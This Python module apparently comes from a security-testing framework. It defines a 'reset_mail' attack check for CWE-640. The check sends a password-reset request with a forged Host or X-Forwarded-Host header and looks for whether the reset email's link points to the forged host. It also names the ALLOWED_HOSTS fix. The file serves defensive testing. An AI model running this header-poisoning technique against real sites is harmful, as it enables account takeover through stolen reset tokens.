"""A request for a new password names another host, and the mail's link leads there with the token.

Oracle: the mail that the site would have sent to the victim has the attacker's host in a link.
"""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import urlencode

from ringfence.prove.aims import answers
from ringfence.prove.stage import (
    Attack,
    Outcome,
    Place,
    Result,
    Target,
    new_marker,
    one_by_one,
    path_of,
)

if TYPE_CHECKING:
    from ringfence.prove.discover.survey import Survey
    from ringfence.prove.stage import Stage

__all__ = ["ATTACK"]


def _find(survey: Survey) -> tuple[Target, ...] | str:
    targets = {}
    for found in survey.forms:
        emails = [f.name for f in found.form.fields if f.kind == "email" or f.name == "email"]
        shown = {f.kind for f in found.form.fields} - {"hidden", "submit", "button"}
        if found.form.method == "post" and len(emails) == 1 and len(shown) == 1:
            path = path_of(found.form.action)
            targets[path] = Target(
                path,
                f"POST {path}",
                visitor="anonymous",
                form=found.form,
                place=Place("setting", "ALLOWED_HOSTS"),
                data={"field": emails[0]},
            )
    return tuple(targets.values()) or "no form that asks for a mail address alone was found"


def _asked(stage: Stage, target: Target, headers: dict[str, str]) -> str:
    """Ask for the victim's mail and return its text, empty where none was sent."""
    before = len(stage.mails())
    page = stage.ask("GET", path_of(target.form.page) if target.form else target.path)
    cookies = [f.partition(";")[0] for f in page.headers.get("set-cookie", "").split("\n") if f]
    token = next((c.partition("=")[2] for c in cookies if "csrftoken" in c), "")
    fields = {
        target.data["field"]: f"{stage.secret('user')}@victim.test",
        "csrfmiddlewaretoken": token,
    }
    stage.ask(
        "POST",
        target.path,
        headers={
            "Content-Type": "application/x-www-form-urlencoded",
            "Cookie": "; ".join(cookies),
            **headers,
        },
        body=urlencode(fields).encode(),
    )
    return "\n".join(mail.body for mail in stage.mails()[before:])


def _strike(stage: Stage, target: Target) -> Result:
    host = f"{new_marker()}.test"
    for name in ("Host", "X-Forwarded-Host"):
        # By himself the attacker says what he likes of where the request comes from.
        mail = _asked(stage, target, {name: host, "Sec-Fetch-Site": "same-origin"})
        if f"//{host}" in mail:
            return Result(Outcome.SUCCEEDED, "poisoned", f"{name}: the mail's link leads to {host}")
    return Result(Outcome.STOPPED, "refused", "no mail with the foreign host was sent")


def _use(stage: Stage, target: Target) -> str | None:
    if _asked(stage, target, {}):
        return None
    return answers(stage, target) or "no mail is sent in the ordinary way either"


ATTACK = Attack(
    name="reset_mail",
    title="password-reset mail that leads to a forged host",
    cwe="CWE-640",
    stopped_by=("transport",),
    find=_find,
    strike=one_by_one(_strike),
    use=_use,
    fix='name the site\'s hosts in ALLOWED_HOSTS, never "*"',
    changes=True,
    guess=True,
)
